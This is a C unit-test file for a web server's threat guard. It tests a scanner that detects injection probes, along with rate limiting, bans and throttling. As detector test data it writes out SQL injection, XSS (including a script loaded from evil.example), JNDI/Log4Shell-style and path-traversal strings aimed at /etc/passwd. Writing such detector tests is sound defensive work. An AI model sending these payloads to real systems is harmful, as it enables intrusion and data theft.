/* Unit tests of src/guard/threat.c: the probe scanner finds each kind in
 * realistic attack strings (raw, percent-encoded, JSON-escaped) and stays
 * quiet on ordinary text; the guard bans and throttles by policy after the
 * burst thresholds, bans expire after their duration, rate limits answer
 * with Retry-After, the event ring and the source table stay bounded (a ban
 * survives 100,000 other addresses), and reports from other layers are
 * recorded with printable details. Time is injected. */
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "guard/threat.h"
#include "test.h"

#define T0 ((int64_t)7000000000)
#define SEC ((int64_t)1000000)

static unsigned scan(const char *text)
{
    return sb_threat_scan(text, strlen(text));
}

/* Every string must be found with exactly the kind given. */
static void expect_kind(const char *const *texts, size_t n, unsigned kind)
{
    for (size_t i = 0; i < n; i++) {
        unsigned found = scan(texts[i]);
        if (!(found & kind))
            sb_test_fail(__FILE__, __LINE__, "no probe %#x found in: %s (got %#x)", kind,
                         texts[i], found);
    }
}

TEST(scan_finds_sql)
{
    static const char *const texts[] = {
        "' or 1=1--",
        "admin' --",
        "x' OR '1'='1",
        "1') or ('a'='a",
        "name=eq.x%27%20or%201%3D1--",
        "id=1 UNION SELECT password FROM users",
        "1 union all select null,null--",
        "1/**/UNION/**/SELECT/**/1",
        "1;-- drop",
        "abc'; DROP TABLE users; --",
        "1 and sleep(5)",
        "' or true--",
        "x' AND 1=2 --",
        "select * from sqlite_master",
        "1 and 1=1",
        "{\"name\":\"Bob\\u0027 or 1=1 --\"}",
        "/*!50000select*/",
        "q=%2527%20or%20%25271%2527%3D%25271", /* double-encoded */
    };
    expect_kind(texts, sizeof(texts) / sizeof(texts[0]), SB_PROBE_SQL);
}

TEST(scan_finds_script)
{
    static const char *const texts[] = {
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        "<img src=x ONERROR = \"alert(1)\">",
        "<svg/onload=alert(1)>",
        "javascript:alert(document.domain)",
        "href=JaVaScRiPt:fetch('//x')",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "{\"bio\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}",
        "<iframe src=\"data:text/html,<b>\">",
        "<body onload=steal()>",
    };
    expect_kind(texts, sizeof(texts) / sizeof(texts[0]), SB_PROBE_SCRIPT);
}

TEST(scan_finds_traversal)
{
    static const char *const texts[] = {
        "../../etc/passwd",
        "file=..%2F..%2Fetc%2Fhosts",
        "%2e%2e/%2e%2e/secret",
        "%2e%2e%2f%2e%2e%2fboot.ini",
        "..\\..\\windows\\win.ini",
        "{\"path\":\"..\\/..\\/x\"}",
        "x=%252e%252e%252fadmin",
        "/proc/self/environ",
    };
    expect_kind(texts, sizeof(texts) / sizeof(texts[0]), SB_PROBE_TRAVERSAL);
}

TEST(scan_finds_template)
{
    static const char *const texts[] = {
        "{{7*7}}",
        "name={{config.items()}}",
        "${jndi:ldap://evil.example/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
        "<%= 7*7 %>",
        "#{7*7}",
        "{\"title\":\"${T(java.lang.Runtime)}\"}",
    };
    expect_kind(texts, sizeof(texts) / sizeof(texts[0]), SB_PROBE_TEMPLATE);
}

TEST(scan_reports_several_kinds)
{
    unsigned found = scan("' union select '<script>' from x where p='../../etc/passwd' and '{{1}}'");
    CHECK_EQ_INT(found, SB_PROBE_SQL | SB_PROBE_SCRIPT | SB_PROBE_TRAVERSAL | SB_PROBE_TEMPLATE);
    char names[48];
    sb_threat_probe_names(found, names, sizeof(names));
    CHECK_EQ_STR(names, "sql,script,traversal,template");
    sb_threat_probe_names(SB_PROBE_SCRIPT, names, sizeof(names));
    CHECK_EQ_STR(names, "script");
    /* a text that is cut in the middle of an escape is no problem */
    CHECK_EQ_INT(sb_threat_scan("%2", 2), 0);
    CHECK_EQ_INT(sb_threat_scan("\\u00", 4), 0);
    CHECK_EQ_INT(sb_threat_scan("", 0), 0);
    /* the length is respected: the probe after len is not read */
    CHECK_EQ_INT(sb_threat_scan("hello<script>", 5), 0);
}

TEST(scan_no_false_positives)
{
    static const char *const texts[] = {
        "O'Brien's shop",
        "Rock 'n' roll or jazz",
        "I can't say; maybe tomorrow -- or not",
        "Price: $12.99, or 2 for $20",
        "The union selected a new leader",
        "Trade union; select your plan",
        "Select the items you want, or order online",
        "https://example.com/path/to/page?q=shoes&size=42#reviews",
        "http://shop.example.com/a/b/c.html",
        "Wait... / then go",
        "She said: 'sleep well' and left",
        "{\"name\":\"Jane Doe\",\"email\":\"jane@example.com\",\"price\":12.5,\"tags\":[\"a\",\"b\"]}",
        "[{\"id\":1,\"nested\":{\"a\":{\"b\":{}}}}]",
        "select=id,name,orders(id,total)&order=created_at.desc&limit=20&offset=40",
        "name=eq.O%27Brien&price=gte.10&or=(status.eq.open,status.eq.closed)",
        "JavaScript: the good parts",
        "The meeting is at 10:00 -- bring coffee",
        "Score: 5 > 3 and 2 < 4",
        "50% off, today only! 100%",
        "C++ and C# developers wanted",
        "Don't forget: the user's 'or' clause",
        "A {b} and a $5 bill",
        "e-mail: o'neil@example.ie; phone +353 1 234 5678",
        "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
        "line one\nline two\ttabbed",
        "Mr. O'Hara's \"special\" offer: 3 for 2",
        "path/to/file.txt and ./local and .hidden/dir",
    };
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        unsigned found = scan(texts[i]);
        if (found)
            sb_test_fail(__FILE__, __LINE__, "false positive %#x in: %s", found, texts[i]);
    }
}

TEST(scan_is_linear_on_large_input)
{
    /* 1 MiB of ordinary text with a probe at the very end */
    size_t len = 1 << 20;
    char *text = malloc(len + 1);
    for (size_t i = 0; i < len; i++)
        text[i] = "abc def, ghi'jkl. "[i % 18];
    memcpy(text + len - 8, "<script", 7);
    text[len - 1] = ' ';
    text[len] = '\0';
    CHECK_EQ_INT(sb_threat_scan(text, len), SB_PROBE_SCRIPT);
    CHECK_EQ_INT(sb_threat_scan(text, len - 8), 0);
    free(text);
}

/* ---- the guard ---------------------------------------------------------------------- */

static struct sb_guard *small_guard(void)
{
    struct sb_guard_config cfg;
    sb_guard_config_default(&cfg);
    cfg.sources = 1024;
    cfg.events = 32;
    return sb_guard_new(&cfg);
}

TEST(guard_rate_limits_address_and_auth_endpoint)
{
    struct sb_guard *g = small_guard();
    int wait = -1, ok = 0;
    for (int i = 0; i < 150; i++)
        ok += sb_guard_before(g, "192.0.2.1", NULL, false, T0, &wait) == SB_GUARD_GO;
    CHECK_EQ_INT(ok, 100); /* burst 100 */
    CHECK_EQ_INT(sb_guard_before(g, "192.0.2.1", NULL, false, T0, &wait), SB_GUARD_LIMITED);
    CHECK_EQ_INT(wait, 1);
    /* one second later, 50 more */
    ok = 0;
    for (int i = 0; i < 100; i++)
        ok += sb_guard_before(g, "192.0.2.1", NULL, false, T0 + SEC, &wait) == SB_GUARD_GO;
    CHECK_EQ_INT(ok, 50);
    /* auth endpoints: 10 at once, then 5 per second */
    ok = 0;
    for (int i = 0; i < 30; i++)
        ok += sb_guard_before(g, "192.0.2.2", NULL, true, T0, &wait) == SB_GUARD_GO;
    CHECK_EQ_INT(ok, 10);
    CHECK_EQ_INT(sb_guard_before(g, "192.0.2.2", NULL, true, T0, &wait), SB_GUARD_LIMITED);
    CHECK_EQ_INT(wait, 1);
    /* the same address on other endpoints is still fine */
    CHECK_EQ_INT(sb_guard_before(g, "192.0.2.2", NULL, false, T0, &wait), SB_GUARD_GO);
    CHECK_EQ_INT(wait, 0);
    /* per principal: 200 at once, across addresses */
    ok = 0;
    for (int i = 0; i < 250; i++) {
        char addr[32];
        snprintf(addr, sizeof(addr), "203.0.113.%d", i % 200);
        ok += sb_guard_before(g, addr, "user-42", false, T0, &wait) == SB_GUARD_GO;
    }
    CHECK_EQ_INT(ok, 200);
    struct sb_guard_stats stats;
    sb_guard_stats(g, T0, &stats);
    CHECK_EQ_INT(stats.limited_refusals, 50 + 1 + 50 + 20 + 1 + 50);
    CHECK_EQ_INT(stats.events[SB_THREAT_RATE_LIMITED], stats.limited_refusals);
    sb_guard_free(g);
}

TEST(guard_enumeration_bans_then_expires)
{
    struct sb_guard *g = small_guard();
    const char *addr = "198.51.100.9";
    int wait = 0;
    for (int i = 0; i < 49; i++)
        sb_guard_after(g, addr, 404, T0 + i * SEC / 2);
    CHECK_EQ_INT(sb_guard_before(g, addr, NULL, false, T0 + 25 * SEC, &wait), SB_GUARD_GO);
    CHECK_EQ_INT(sb_guard_bans(g, T0 + 25 * SEC, NULL, 0), 0);
    sb_guard_after(g, addr, 404, T0 + 25 * SEC); /* the 50th within 60 s */
    CHECK_EQ_INT(sb_guard_before(g, addr, NULL, false, T0 + 25 * SEC, &wait), SB_GUARD_BANNED);
    CHECK_EQ_INT(wait, 600);
    CHECK_EQ_INT(sb_guard_before(g, addr, NULL, false, T0 + 325 * SEC, &wait), SB_GUARD_BANNED);
    CHECK_EQ_INT(wait, 300);
    struct sb_threat_ban bans[4];
    CHECK_EQ_INT(sb_guard_bans(g, T0 + 325 * SEC, bans, 4), 1);
    CHECK_EQ_STR(bans[0].addr, addr);
    CHECK_EQ_INT(bans[0].kind, SB_THREAT_ENUMERATION);
    CHECK_EQ_INT(bans[0].remaining_s, 300);
    /* another address is not affected */
    CHECK_EQ_INT(sb_guard_before(g, "198.51.100.10", NULL, false, T0 + 30 * SEC, &wait), SB_GUARD_GO);
    /* the ban ends after ten minutes */
    CHECK_EQ_INT(sb_guard_before(g, addr, NULL, false, T0 + 625 * SEC - 1, &wait), SB_GUARD_BANNED);
    CHECK_EQ_INT(sb_guard_before(g, addr, NULL, false, T0 + 625 * SEC, &wait), SB_GUARD_GO);
    CHECK_EQ_INT(sb_guard_bans(g, T0 + 625 * SEC, bans, 4), 0);
    /* the event was recorded once, with what the policy did */
    struct sb_threat_event events[8];
    size_t n = sb_guard_events(g, events, 8);
    CHECK_EQ_INT(n, 1);
    CHECK_EQ_INT(events[0].kind, SB_THREAT_ENUMERATION);
    CHECK_EQ_INT(events[0].action, SB_THREAT_BAN);
    CHECK_EQ_STR(events[0].addr, addr);
    CHECK_EQ_STR(events[0].detail, "50 answers 404 within 60 s");
    struct sb_guard_stats stats;
    sb_guard_stats(g, T0 + 30 * SEC, &stats);
    CHECK_EQ_INT(stats.active_bans, 1);
    CHECK_EQ_INT(stats.banned_refusals, 3);
    sb_guard_free(g);
}

TEST(guard_404s_spread_out_are_not_enumeration)
{
    struct sb_guard *g = small_guard();
    /* 100 404s, one every two seconds: never 50 within 60 s */
    for (int i = 0; i < 100; i++)
        sb_guard_after(g, "192.0.2.77", 404, T0 + i * 2 * SEC);
    CHECK_EQ_INT(sb_guard_before(g, "192.0.2.77", NULL, false, T0 + 200 * SEC, NULL), SB_GUARD_GO);
    struct sb_threat_event events[4];
    CHECK_EQ_INT(sb_guard_events(g, events, 4), 0);
    sb_guard_free(g);
}

TEST(guard_auth_failures_throttle)
{
    struct sb_guard *g = small_guard();
    const char *addr = "192.0.2.50";
    for (int i = 0; i < 20; i++)
        sb_guard_after(g, addr, i % 2 ? 401 : 403, T0 + i * SEC);
    struct sb_threat_event events[4];
    CHECK_EQ_INT(sb_guard_events(g, events, 4), 1);
    CHECK_EQ_INT(events[0].kind, SB_THREAT_AUTH_FAILURES);
    CHECK_EQ_INT(events[0].action, SB_THREAT_THROTTLE);
    /* throttled: each request costs 10 tokens, so 10 of the burst of 100 */
    int64_t now = T0 + 30 * SEC;
    int ok = 0, wait = 0;
    for (int i = 0; i < 100; i++)
        ok += sb_guard_before(g, addr, NULL, false, now, &wait) == SB_GUARD_GO;
    CHECK_EQ_INT(ok, 10);
    struct sb_guard_stats stats;
    sb_guard_stats(g, now, &stats);
    CHECK_EQ_INT(stats.active_throttles, 1);
    CHECK_EQ_INT(stats.active_bans, 0);
    /* the operator lifts it */
    CHECK(sb_guard_unban(g, addr));
    CHECK(!sb_guard_unban(g, addr));
    CHECK(!sb_guard_unban(g, "192.0.2.51"));
    sb_guard_stats(g, now, &stats);
    CHECK_EQ_INT(stats.active_throttles, 0);
    sb_guard_free(g);
}

TEST(guard_inspect_logs_probes_without_blocking)
{
    struct sb_guard *g = small_guard();
    const char *query = "name=eq.x%27%20or%201%3D1--";
    CHECK_EQ_INT(sb_guard_inspect(g, "192.0.2.9", query, strlen(query), true, T0), SB_GUARD_GO);
    const char *body = "{\"name\":\"Eve\",\"bio\":\"<script>alert(1)</script>\"}";
    CHECK_EQ_INT(sb_guard_inspect(g, "192.0.2.9", body, strlen(body), false, T0 + 20 * SEC), SB_GUARD_GO);
    const char *clean = "{\"name\":\"O'Brien's shop\"}";
    CHECK_EQ_INT(sb_guard_inspect(g, "192.0.2.9", clean, strlen(clean), false, T0 + 40 * SEC), SB_GUARD_GO);
    struct sb_threat_event events[4];
    CHECK_EQ_INT(sb_guard_events(g, events, 4), 2);
    CHECK_EQ_INT(events[0].kind, SB_THREAT_INJECTION_PROBE);
    CHECK_EQ_INT(events[0].probes, SB_PROBE_SQL);
    CHECK_EQ_INT(events[0].action, SB_THREAT_LOG);
    CHECK_EQ_STR(events[0].detail, "sql: name=eq.x%27%20or%201%3D1--");
    CHECK_EQ_INT(events[1].probes, SB_PROBE_SCRIPT);
    CHECK_EQ_STR(events[1].detail, "script"); /* no excerpt of a body */
    CHECK(events[0].seq < events[1].seq);
    CHECK_EQ_INT(sb_guard_before(g, "192.0.2.9", NULL, false, T0 + 40 * SEC, NULL), SB_GUARD_GO);
    sb_guard_free(g);

    /* a policy of ban for probes: the probing request itself is refused */
    struct sb_guard_config cfg;
    sb_guard_config_default(&cfg);
    cfg.action[SB_THREAT_INJECTION_PROBE] = SB_THREAT_BAN;
    cfg.ban_s = 60;
    g = sb_guard_new(&cfg);
    CHECK_EQ_INT(sb_guard_inspect(g, "192.0.2.9", "{{7*7}}", 7, true, T0), SB_GUARD_BANNED);
    CHECK_EQ_INT(sb_guard_before(g, "192.0.2.9", NULL, false, T0 + 59 * SEC, NULL), SB_GUARD_BANNED);
    CHECK_EQ_INT(sb_guard_before(g, "192.0.2.9", NULL, false, T0 + 60 * SEC, NULL), SB_GUARD_GO);
    sb_guard_free(g);
}

TEST(guard_reports_repeats_and_printable_details)
{
    struct sb_guard *g = small_guard();
    sb_guard_report(g, SB_THREAT_JWT_TAMPERING, "192.0.2.3", "bad signature\n\x1b[31mred", T0);
    /* the same kind from the same address within 10 s: counted, not ringed */
    sb_guard_report(g, SB_THREAT_JWT_TAMPERING, "192.0.2.3", "again", T0 + SEC);
    sb_guard_report(g, SB_THREAT_JWT_TAMPERING, "192.0.2.3", "later", T0 + 11 * SEC);
    sb_guard_report(g, SB_THREAT_MALFORMED, "192.0.2.3", NULL, T0 + 11 * SEC);
    sb_guard_after(g, "192.0.2.3", 413, T0 + 12 * SEC);
    struct sb_threat_event events[8];
    size_t n = sb_guard_events(g, events, 8);
    CHECK_EQ_INT(n, 4);
    CHECK_EQ_STR(events[0].detail, "bad signature??[31mred");
    CHECK_EQ_STR(events[1].detail, "later");
    CHECK_EQ_INT(events[2].kind, SB_THREAT_MALFORMED);
    CHECK_EQ_STR(events[2].detail, "");
    CHECK_EQ_INT(events[3].kind, SB_THREAT_OVERSIZED);
    CHECK_EQ_STR(events[3].detail, "status 413");
    struct sb_guard_stats stats;
    sb_guard_stats(g, T0, &stats);
    CHECK_EQ_INT(stats.events[SB_THREAT_JWT_TAMPERING], 3);
    CHECK_EQ_STR(sb_threat_kind_name(SB_THREAT_JWT_TAMPERING), "jwt_tampering");
    CHECK_EQ_INT(sb_threat_kind_parse("enumeration"), SB_THREAT_ENUMERATION);
    CHECK_EQ_INT(sb_threat_kind_parse("nope"), -1);
    CHECK_EQ_STR(sb_threat_action_name(SB_THREAT_THROTTLE), "throttle");
    sb_guard_free(g);
}

TEST(guard_event_ring_is_bounded)
{
    struct sb_guard *g = small_guard(); /* 32 events */
    char addr[32];
    for (int i = 0; i < 100; i++) {
        snprintf(addr, sizeof(addr), "10.0.0.%d", i);
        sb_guard_report(g, SB_THREAT_MALFORMED, addr, "x", T0 + i);
    }
    struct sb_threat_event events[64];
    size_t n = sb_guard_events(g, events, 64);
    CHECK_EQ_INT(n, 32);
    CHECK_EQ_STR(events[0].addr, "10.0.0.68"); /* the newest 32, oldest first */
    CHECK_EQ_STR(events[31].addr, "10.0.0.99");
    CHECK_EQ_INT(events[31].seq, 100);
    CHECK_EQ_INT(sb_guard_events(g, events, 3), 3);
    CHECK_EQ_STR(events[2].addr, "10.0.0.99");
    sb_guard_free(g);
}

TEST(guard_memory_bounded_and_bans_survive_floods)
{
    struct sb_guard *g = small_guard(); /* 1024 sources */
    const char *banned = "192.0.2.66";
    for (int i = 0; i < 50; i++)
        sb_guard_after(g, banned, 404, T0);
    CHECK_EQ_INT(sb_guard_before(g, banned, NULL, false, T0, NULL), SB_GUARD_BANNED);
    /* 100,000 distinct addresses, each with a 404 and a request */
    char addr[48];
    for (int i = 0; i < 100000; i++) {
        snprintf(addr, sizeof(addr), "2001:db8::%x:%x", i >> 16, i & 0xffff);
        int64_t now = T0 + i * 100;
        sb_guard_before(g, addr, NULL, false, now, NULL);
        sb_guard_after(g, addr, 404, now);
    }
    struct sb_guard_stats stats;
    sb_guard_stats(g, T0 + 10 * SEC, &stats);
    CHECK_EQ_INT(stats.sources_capacity, 1024);
    CHECK(stats.sources_tracked <= stats.sources_capacity);
    CHECK_EQ_INT(stats.active_bans, 1);
    CHECK_EQ_INT(sb_guard_before(g, banned, NULL, false, T0 + 10 * SEC, NULL), SB_GUARD_BANNED);
    sb_guard_free(g);
}

TEST(guard_disabled_does_nothing)
{
    struct sb_guard_config cfg;
    sb_guard_config_default(&cfg);
    cfg.enabled = false;
    struct sb_guard *g = sb_guard_new(&cfg);
    for (int i = 0; i < 100; i++)
        sb_guard_after(g, "192.0.2.1", 404, T0);
    int ok = 0;
    for (int i = 0; i < 500; i++)
        ok += sb_guard_before(g, "192.0.2.1", "u", true, T0, NULL) == SB_GUARD_GO;
    CHECK_EQ_INT(ok, 500);
    struct sb_threat_event events[4];
    CHECK_EQ_INT(sb_guard_events(g, events, 4), 0);
    sb_guard_free(g);
}

static struct sb_guard *shared_guard;

static void *flood_thread(void *arg)
{
    int id = (int)(intptr_t)arg;
    char addr[32];
    for (int i = 0; i < 2000; i++) {
        snprintf(addr, sizeof(addr), "10.%d.%d.%d", id, i >> 8, i & 255);
        int64_t now = T0 + i * 1000;
        sb_guard_before(shared_guard, addr, "shared-user", false, now, NULL);
        sb_guard_inspect(shared_guard, addr, "' or 1=1--", 10, true, now);
        sb_guard_after(shared_guard, addr, i % 3 ? 404 : 401, now);
    }
    return NULL;
}

TEST(guard_threads)
{
    shared_guard = small_guard();
    pthread_t threads[8];
    for (int i = 0; i < 8; i++)
        pthread_create(&threads[i], NULL, flood_thread, (void *)(intptr_t)i);
    for (int i = 0; i < 8; i++)
        pthread_join(threads[i], NULL);
    struct sb_guard_stats stats;
    sb_guard_stats(shared_guard, T0, &stats);
    CHECK_EQ_INT(stats.events[SB_THREAT_INJECTION_PROBE], 8 * 2000);
    CHECK(stats.sources_tracked <= stats.sources_capacity);
    struct sb_threat_event events[32];
    CHECK_EQ_INT(sb_guard_events(shared_guard, events, 32), 32);
    sb_guard_free(shared_guard);
}

TEST(guard_principal_after_identity)
{
    struct sb_guard *g = small_guard();
    int wait = -1, ok = 0;
    /* the address check first, then the principal once the token verified;
     * one principal from many addresses is held to 200 at once */
    for (int i = 0; i < 300; i++) {
        char addr[32];
        snprintf(addr, sizeof(addr), "203.0.113.%d", i % 250);
        if (sb_guard_before(g, addr, NULL, false, T0, &wait) != SB_GUARD_GO)
            continue;
        ok += sb_guard_principal(g, addr, "user-7", T0, &wait) == SB_GUARD_GO;
    }
    CHECK_EQ_INT(ok, 200);
    CHECK_EQ_INT(sb_guard_principal(g, "203.0.113.1", "user-7", T0, &wait), SB_GUARD_LIMITED);
    CHECK_EQ_INT(wait, 1);
    CHECK_EQ_INT(sb_guard_principal(g, "203.0.113.1", "user-8", T0, &wait), SB_GUARD_GO);
    CHECK_EQ_INT(wait, 0);
    CHECK_EQ_INT(sb_guard_principal(g, "203.0.113.1", NULL, T0, &wait), SB_GUARD_GO);
    /* bytes after a NUL are still scanned; "\\" before a NUL is no escape */
    CHECK_EQ_INT(sb_threat_scan("a\0<script>", 10), SB_PROBE_SCRIPT);
    CHECK_EQ_INT(sb_threat_scan("a\\\0b", 4), 0);
    sb_guard_free(g);
}

TEST(scan_survives_random_bytes)
{
    /* escapes, quotes and comment openers cut at every place: run under
     * the sanitizers, any read past len fails the build-san run */
    static const char alphabet[] = "%25\\u00'\"/*!{}$#<>.:;-=or 1and";
    unsigned seed = 12345;
    for (int round = 0; round < 20000; round++) {
        size_t len = (size_t)(round % 64);
        char *text = malloc(len ? len : 1);
        for (size_t i = 0; i < len; i++) {
            seed = seed * 1103515245u + 12345u;
            text[i] = (seed >> 16) % 4 ? alphabet[(seed >> 8) % (sizeof(alphabet) - 1)]
                                       : (char)(seed >> 20);
        }
        unsigned found = sb_threat_scan(text, len);
        CHECK(found < (1u << SB_PROBE_N_KINDS));
        free(text);
    }
}

TEST(event_json_and_policy_names)
{
    struct sb_threat_event event = {.seq = 7, .wall_s = 1764079200, .kind = SB_THREAT_INJECTION_PROBE,
                                    .action = SB_THREAT_LOG,
                                    .probes = SB_PROBE_SQL | SB_PROBE_TEMPLATE};
    snprintf(event.addr, sizeof(event.addr), "2001:db8::1");
    snprintf(event.detail, sizeof(event.detail), "sql,template: q=\"x\\\" or 1=1");
    struct sb_buf out;
    sb_buf_init(&out);
    sb_threat_event_json(&event, &out);
    CHECK_EQ_STR(sb_buf_str(&out),
                 "{\"seq\":7,\"time\":\"2025-11-25T14:00:00Z\",\"kind\":\"injection_probe\","
                 "\"action\":\"log\",\"address\":\"2001:db8::1\",\"probes\":[\"sql\",\"template\"],"
                 "\"detail\":\"sql,template: q=\\\"x\\\\\\\" or 1=1\"}");
    sb_buf_free(&out);
    CHECK_EQ_INT(sb_threat_action_parse("ban"), SB_THREAT_BAN);
    CHECK_EQ_INT(sb_threat_action_parse("throttle"), SB_THREAT_THROTTLE);
    CHECK_EQ_INT(sb_threat_action_parse("log"), SB_THREAT_LOG);
    CHECK_EQ_INT(sb_threat_action_parse("kill"), -1);
    CHECK_EQ_INT(sb_threat_action_parse(NULL), -1);
}
